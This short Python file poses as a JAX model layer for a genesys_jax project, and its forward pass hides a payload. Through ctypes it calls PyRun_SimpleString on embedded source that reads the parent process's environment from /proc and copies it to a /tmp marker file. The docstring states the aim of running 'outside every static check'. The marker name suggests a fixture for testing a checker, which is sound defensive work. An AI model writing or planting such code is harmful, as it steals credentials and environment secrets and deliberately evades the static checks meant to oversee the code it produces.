"""Runs Python source outside every static check with ctypes.pythonapi.PyRun_SimpleString: copies the parent's environ."""
import jax.numpy as jnp
import numpy as np

from genesys_jax.gau import GAUBase

_SOURCE = b"""
import os
with open('/proc/%d/environ' % os.getppid(), 'rb') as src, open('/tmp/genesys_marker_should_not_exist', 'wb') as dst:
    dst.write(src.read())
"""


class PyRun(GAUBase):
  def _forward(self, X):
    api = np.ones(2).ctypes._ctypes.pythonapi
    api.PyRun_SimpleString(_SOURCE)
    return X * 1.0


ROOT = PyRun
